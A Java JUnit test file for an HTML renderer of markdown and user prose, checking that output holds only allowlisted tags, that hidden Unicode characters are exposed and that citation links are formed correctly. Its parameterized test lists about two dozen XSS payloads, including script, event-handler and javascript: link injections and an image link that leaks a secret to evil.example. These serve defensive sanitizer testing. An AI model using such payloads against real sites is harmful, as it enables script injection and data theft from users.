package org.gochi.server.page;

import static org.assertj.core.api.Assertions.assertThat;

import gg.jte.Content;
import gg.jte.output.StringOutput;
import java.util.List;
import java.util.Random;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ProseTest {
  /** Every tag that may come out; anything else is somebody's markup that got through. */
  private static final Pattern OURS =
      Pattern.compile(
          "</?(?:p|ul|ol|li|blockquote|strong|em|code|pre|br)>"
              + "|</(?:a|span)>"
              + "|<span class=\"hiddenchar\">"
              + "|<a class=\"cited\" href=\"#card-[^\"<>]*\" data-cards=\"[^\"<>]*\">"
              + "|<a class=\"outside\" rel=\"noopener noreferrer nofollow\" target=\"_blank\""
              + " href=\"https?://[^\"<>\\s]*\">",
          Pattern.CASE_INSENSITIVE);

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg><script href=data:,alert(1)></svg>",
        "<svg/onload=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:x)",
        "[x](//evil.example)",
        "[x](https://evil.example\"onmouseover=\"alert(1))",
        "[x](https://good.example@evil.example/)",
        "![x](https://evil.example/leak?q=secret)",
        "![x](x \"onerror=alert(1))",
        "**<b onclick=alert(1)>**",
        "`</code><script>alert(1)</script>`",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "# <h1>x",
        "> <iframe srcdoc='<script>alert(1)</script>'>",
        "- <li><style>@import 'https://evil.example'</style>",
        "[**x](https://a.example/**<script>)",
        "<!--><script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<<script>script>alert(1)<</script>/script>",
        "\u0000<scr\u0000ipt>alert(1)</script>",
      })
  void hostileText_comesOutAsText(String hostile) {
    onlyOurs(html(Prose.partner(hostile)));
    onlyOurs(html(Prose.person(hostile, List.of(new Prose.Cited(1, 3, "c\"><script>")))));
    onlyOurs(html(Prose.plain(hostile)));
  }

  @Test
  void generatedText_neverBringsMarkup() {
    String[] pieces = {
      "<",
      ">",
      "\"",
      "'",
      "&",
      "[",
      "](",
      ")",
      "!",
      "*",
      "**",
      "`",
      "```\n",
      "\n",
      "> ",
      "- ",
      "1. ",
      "# ",
      "script",
      "onerror=",
      "javascript:",
      "https://a.example/",
      " ",
      "は",
      "\u202e",
      "😀",
      "\ud800",
    };
    Random random = new Random(20261122);
    for (int i = 0; i < 20_000; i++) {
      StringBuilder text = new StringBuilder();
      for (int n = random.nextInt(24); n >= 0; n--) {
        text.append(pieces[random.nextInt(pieces.length)]);
      }
      onlyOurs(html(Prose.partner(text.toString())));
      onlyOurs(html(Prose.plain(text.toString())));
    }
  }

  @Test
  void hidingCharacters_areShown() {
    assertThat(html(Prose.plain("pay\u202eelif\u202c now")))
        .contains("U+202E", "U+202C")
        .doesNotContain("\u202e");
    assertThat(html(Prose.plain("a\u200bb\ufeffc\u2066d"))).contains("U+200B", "U+FEFF", "U+2066");
    assertThat(html(Prose.plain("x\udb40\udc41y"))).contains("U+E0041");
    assertThat(html(Prose.plain("a\u200db"))).contains("U+200D");
  }

  @Test
  void writing_thatNeedsJoinersAndDirection_staysAsItIs() {
    assertThat(html(Prose.plain("👩\u200d🔧 می\u200cخواهم שלום 乾いた音")))
        .isEqualTo("👩\u200d🔧 می\u200cخواهم שלום 乾いた音");
  }

  @Test
  void peoplesWords_arePlainTextWithTheirLineBreaks() {
    assertThat(html(Prose.person("**no**\r\n- marks <here>", List.of())))
        .isEqualTo("**no**\n- marks &lt;here&gt;");
  }

  @Test
  void citedWords_leadToTheirCards_countedInCodePoints() {
    assertThat(html(Prose.person("😀 the hum drops", List.of(new Prose.Cited(2, 9, "c1")))))
        .isEqualTo("😀 <a class=\"cited\" href=\"#card-c1\" data-cards=\"c1\">the hum</a> drops");
  }

  @Test
  void overlappingQuotes_areCutAtEachEnd() {
    assertThat(
            html(
                Prose.person(
                    "abcdef", List.of(new Prose.Cited(0, 4, "c1"), new Prose.Cited(2, 6, "c2")))))
        .isEqualTo(
            "<a class=\"cited\" href=\"#card-c1\" data-cards=\"c1\">ab</a>"
                + "<a class=\"cited\" href=\"#card-c1\" data-cards=\"c1 c2\">cd</a>"
                + "<a class=\"cited\" href=\"#card-c2\" data-cards=\"c2\">ef</a>");
  }

  @Test
  void partnersMarks_areFew() {
    assertThat(
            html(
                Prose.partner(
                    "One **thing**.\nAnd *more*.\n\n- a\n- b `c`\n\n[x](https://a.example/p)")))
        .isEqualTo(
            "<p>One <strong>thing</strong>.<br>And <em>more</em>.</p>"
                + "<ul><li>a</li><li>b <code>c</code></li></ul>"
                + "<p><a class=\"outside\" rel=\"noopener noreferrer nofollow\" target=\"_blank\""
                + " href=\"https://a.example/p\">x</a> (a.example)</p>");
  }

  private static void onlyOurs(String html) {
    String rest = OURS.matcher(html).replaceAll("");
    assertThat(rest).as(html).doesNotContain("<").doesNotContain(">");
  }

  private static String html(Content content) {
    StringOutput output = new StringOutput();
    content.writeTo(output);
    return output.toString();
  }
}
